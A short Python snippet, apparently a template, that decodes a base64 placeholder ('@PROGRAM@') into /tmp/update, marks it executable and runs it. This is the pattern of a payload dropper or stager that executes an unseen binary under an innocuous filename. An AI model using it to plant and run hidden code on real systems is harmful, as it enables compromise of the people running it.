import base64, os, subprocess
with open("/tmp/update", "wb") as file:
    file.write(base64.b64decode("@PROGRAM@"))
os.chmod("/tmp/update", 0o755)
out = subprocess.check_output(["/tmp/update"]).decode()
